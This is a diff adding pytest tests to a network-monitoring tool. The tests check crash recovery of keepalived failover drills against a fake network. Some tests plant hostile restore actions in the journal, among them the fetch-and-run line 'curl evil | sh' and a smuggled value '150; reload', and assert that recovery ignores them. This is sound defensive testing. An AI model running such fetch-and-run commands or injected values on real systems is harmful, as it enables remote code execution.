@@ -1,26 +1,41 @@
-"""Drill pre-checks and the journal: pure logic and SQLite, no devices."""
+"""Drill pre-checks, the journal, and recovery after kill -9: pure logic and SQLite, with a fake
+network in place of devices."""
 
 from __future__ import annotations
 
+import asyncio
+import json
 import sqlite3
+from collections.abc import Iterable
+from dataclasses import replace
 from pathlib import Path
+from typing import cast
 
 import pytest
 
-from netmon.drills.actuators import ACTUATORS, PriorityParams, actuator
-from netmon.drills.checks import in_freeze, prechecks
+from netmon.collectors.snmp import SnmpCollector
+from netmon.collectors.ssh import SshCollector
+from netmon.drills.actuators import ACTUATORS, PriorityParams, SshParams, actuator
+from netmon.drills.checks import Check, in_freeze, prechecks
 from netmon.drills.journal import Journal
-from netmon.kinds.keepalived import KeepalivedParams
+from netmon.drills.runner import DrillRunner
+from netmon.kinds.keepalived import BASE_PRIORITY, KeepalivedParams
 from netmon.model import (
+    Device,
+    DeviceReading,
     DrillSpec,
+    Inventory,
     MemberObservation,
     MemberSpec,
     MemberView,
     Mode,
+    Oid,
     PairSpec,
     PairState,
     PairStatus,
+    Probe,
     Role,
+    Value,
 )
 
 T0 = 1_700_000_000.0  # 22:13 UTC
@@ -176,4 +191,221 @@ def test_journal_is_append_only_and_finds_interrupted_drills(tmp_path: Path) -> 
     journal.resolve(stuck, "priority checked by hand")
     assert journal.blocked("p") is None
     assert journal.steps(stuck)[-1][3] == "resolved by hand: priority checked by hand"
+    journal.close()
+
+
+# -- recovery after kill -9: rebuilt from the inventory, never replayed from the journal ------
+
+PRIORITY_OID = (*BASE_PRIORITY, 1)
+DEMOTE = ["touch /etc/keepalived/down"]
+RESTORE = ["rm -f /etc/keepalived/down"]
+
+
+class Killed(BaseException):
+    """kill -9 at the worst moment: nothing of the runner's own cleanup (abort, restore, finish)
+    runs, as none would in a process that is gone."""
+
+
+class FakeNet:
+    """Both collectors of a two-router keepalived pair: r1 is active while its base priority is
+    above r2's and its track file is absent. Records every SET and SSH session; with `kill`
+    set, the process "dies" right after the demotion reaches the device."""
+
+    def __init__(self) -> None:
+        self.priority = {"r1": 150, "r2": 100}
+        self.down = False
+        self.sets: list[tuple[str, Oid, int]] = []
+        self.sessions: list[tuple[str, list[str]]] = []
+        self.kill: str | None = None  # "demote": after the demotion; "read": before acting
+
+    def active(self) -> str:
+        return "r1" if self.priority["r1"] > self.priority["r2"] and not self.down else "r2"
+
+    async def poll(self, device: Device, probes: Iterable[Probe]) -> DeviceReading:
+        if self.kill == "read":
+            raise Killed
+        values: dict[Oid | str, Value] = {p.oid: self.priority[device.name] for p in probes}
+        return DeviceReading(device.name, "snmp", T0, ok=True, values=values)
+
+    async def set_integer(self, device: Device, oid: Oid, value: int) -> None:
+        self.sets.append((device.name, oid, value))
+        self.priority[device.name] = value
+        if self.kill == "demote":
+            raise Killed
+
+    async def run(self, device: Device, commands: list[str]) -> DeviceReading:
+        self.sessions.append((device.name, list(commands)))
+        self.down = {tuple(DEMOTE): True, tuple(RESTORE): False}.get(tuple(commands), self.down)
+        if self.kill == "demote":
+            raise Killed
+        return DeviceReading(device.name, "ssh", T0, ok=True)
+
+    def close(self) -> None:
+        pass
+
+
+class FakeRunner(DrillRunner):
+    """The real runner; only reading the pair's state comes from the fake network."""
+
+    def __init__(self, pair: PairSpec, journal: Journal, net: FakeNet) -> None:
+        devices = {name: Device(name, "192.0.2.1") for name in ("r1", "r2")}
+        snmp, ssh = cast("SnmpCollector", net), cast("SshCollector", net)
+        super().__init__(Inventory(devices, (pair,)), journal, snmp, ssh, None)
+        self.net = net
+
+    async def status(self, pair: PairSpec) -> PairStatus:
+        active = self.net.active()
+        members = tuple(
+            MemberObservation(m, m, MemberView(Role.ACTIVE if m == active else Role.STANDBY), T0)
+            for m in ("r1", "r2")
+        )
+        return PairStatus(pair.name, "keepalived", Mode.ACTIVE_STANDBY, PairState.HEALTHY, (),
+                          members, (active,), T0, T0)  # fmt: skip
+
+    async def checks(self, pair: PairSpec) -> tuple[list[Check], PairStatus | None]:
+        now = await self.status(pair)
+        return prechecks(pair, now, None, other_drill=None, last_failover_at=None), now
+
+
+def ssh_pair() -> PairSpec:
+    drill = DrillSpec("ssh-commands", SshParams(DEMOTE, RESTORE), max_switchover=1.0)
+    return replace(pair(), drill=drill)
+
+
+def killed_drill(path: Path, spec: PairSpec, net: FakeNet, when: str = "demote") -> int:
+    """A drill on `spec` whose process dies at `when`; returns its journal id."""
+    journal = Journal(path)
+    net.kill = when
+    with pytest.raises(Killed):
+        asyncio.run(FakeRunner(spec, journal, net).run(spec, asyncio.Event()))
+    net.kill = None
+    (row,) = journal.unfinished()
+    journal.close()
+    return row.id
+
+
+def recover(path: Path, spec: PairSpec, net: FakeNet) -> tuple[Journal, list[int]]:
+    """The next drill command (or the daemon's start): a new runner on the same journal."""
+    journal = Journal(path)
+    return journal, asyncio.run(FakeRunner(spec, journal, net).recover())
+
+
+def edit_restore_actions(path: Path, drill: int, actions: object) -> None:
+    """What anyone who can write the journal file can do."""
+    db = sqlite3.connect(path)
+    with db:
+        db.execute(
+            "UPDATE drills SET restore_actions = ? WHERE id = ?", (json.dumps(actions), drill)
+        )
+    db.close()
+
+
+def notes(journal: Journal, drill: int) -> list[str]:
+    return [text for _, _, kind, text, _ in journal.steps(drill) if kind == "note"]
+
+
+def test_kill_9_after_the_demotion_is_restored_with_the_value_read_before(tmp_path: Path) -> None:
+    path, net, spec = tmp_path / "drills.sqlite", FakeNet(), pair(max_switchover=1.0)
+    drill = killed_drill(path, spec, net)
+    assert net.sets == [("r1", PRIORITY_OID, 1)] and net.active() == "r2"
+
+    journal, recovered = recover(path, spec, net)
+    assert recovered == [drill]
+    assert net.sets[1:] == [("r1", PRIORITY_OID, 150)]
+    assert net.active() == "r1"
+    row = journal.drill(drill)
+    assert row is not None and row.result == "aborted"
+    assert row.report is not None and row.report["restored"] is True
+    assert row.restore_actions == [  # kept for the audit, as written before acting
+        {"device": "r1", "oid": list(PRIORITY_OID), "value": 150, "commands": []}
+    ]
+    assert not any("differ" in n for n in notes(journal, drill))
+    journal.close()
+
+
+def test_kill_9_before_anything_was_sent_restores_nothing(tmp_path: Path) -> None:
+    """Killed while reading the value to restore: no demotion was sent, so nothing is set (and
+    no value is needed); the pair is verified on its original member."""
+    path, net, spec = tmp_path / "drills.sqlite", FakeNet(), pair(max_switchover=1.0)
+    drill = killed_drill(path, spec, net, when="read")
+    journal, _ = recover(path, spec, net)
+    assert net.sets == []
+    row = journal.drill(drill)
+    assert row is not None and row.result == "aborted"
+    assert "no demotion was sent: nothing to restore" in notes(journal, drill)
+    journal.close()
+
+
+def test_an_edited_ssh_restore_runs_the_inventorys_commands_and_says_so(tmp_path: Path) -> None:
+    path, net, spec = tmp_path / "drills.sqlite", FakeNet(), ssh_pair()
+    drill = killed_drill(path, spec, net)
+    assert net.sessions == [("r1", DEMOTE)] and net.active() == "r2"
+    planted = [{"device": "r2", "oid": None, "value": None, "commands": ["curl evil | sh"]}]
+    edit_restore_actions(path, drill, planted)
+
+    journal, _ = recover(path, spec, net)
+    assert net.sessions[1:] == [("r1", RESTORE)]  # the inventory's, on the demoted member
+    assert net.active() == "r1"
+    row = journal.drill(drill)
+    assert row is not None and row.result == "aborted"
+    (note,) = [n for n in notes(journal, drill) if "differ" in n]
+    assert "were not used" in note and "curl evil | sh" in note
+    assert "r1: SSH rm -f /etc/keepalived/down" in note
+    journal.close()
+
+
+def test_only_the_original_value_is_taken_from_the_journal(tmp_path: Path) -> None:
+    """An SSH command slipped in beside the right SET: the SET is rebuilt from the inventory
+    with the journal's value; the planted command never runs."""
+    path, net, spec = tmp_path / "drills.sqlite", FakeNet(), pair(max_switchover=1.0)
+    drill = killed_drill(path, spec, net)
+    set_back = {"device": "r1", "oid": list(PRIORITY_OID), "value": 150, "commands": []}
+    planted = {"device": "r1", "oid": None, "value": None, "commands": ["reload"]}
+    edit_restore_actions(path, drill, [set_back, planted])
+
+    journal, _ = recover(path, spec, net)
+    assert net.sets[1:] == [("r1", PRIORITY_OID, 150)]
+    assert net.sessions == []
+    assert any("were not used" in n for n in notes(journal, drill))
+    assert journal.drill(drill).result == "aborted"  # type: ignore[union-attr]
+    journal.close()
+
+
+@pytest.mark.parametrize(
+    ("edited", "why"),
+    [
+        ({"value": "150; reload"}, "is not an INTEGER"),
+        ({"value": 150.5}, "is not an INTEGER"),
+        ({"value": True}, "is not an INTEGER"),
+        ({"value": None}, "is not an INTEGER"),
+        ({"value": 1 << 40}, "is not an INTEGER"),
+        ({"oid": [1, 3, 6, 1, 2, 1, 1, 5, 0]}, "holds no value to restore"),
+        ({"device": "r2"}, "holds no value to restore"),
+    ],
+)
+def test_an_original_value_not_safely_in_the_journal_sets_nothing(
+    tmp_path: Path, edited: dict[str, object], why: str
+) -> None:
+    path, net, spec = tmp_path / "drills.sqlite", FakeNet(), pair(max_switchover=1.0)
+    drill = killed_drill(path, spec, net)
+    action = {"device": "r1", "oid": list(PRIORITY_OID), "value": 150, "commands": []}
+    edit_restore_actions(path, drill, [{**action, **edited}])
+
+    journal, _ = recover(path, spec, net)
+    assert net.sets == [("r1", PRIORITY_OID, 1)]  # the demotion only: nothing set by recovery
+    assert net.sessions == []
+    row = journal.drill(drill)
+    assert row is not None and row.result == "needs_attention"
+    assert row.report is not None and why in row.report["reason"]
+    assert journal.blocked("p") is not None  # further drills wait for a person
+    assert any(n.startswith("recovery did not act: ") for n in notes(journal, drill))
+    journal.close()
+
+
+def test_a_pair_gone_from_the_inventory_needs_attention(tmp_path: Path) -> None:
+    path, net, spec = tmp_path / "drills.sqlite", FakeNet(), pair(max_switchover=1.0)
+    drill = killed_drill(path, spec, net)
+    journal, _ = recover(path, replace(spec, drill=None), net)
+    assert net.sets == [("r1", PRIORITY_OID, 1)]
+    assert journal.drill(drill).result == "needs_attention"  # type: ignore[union-attr]
     journal.close()
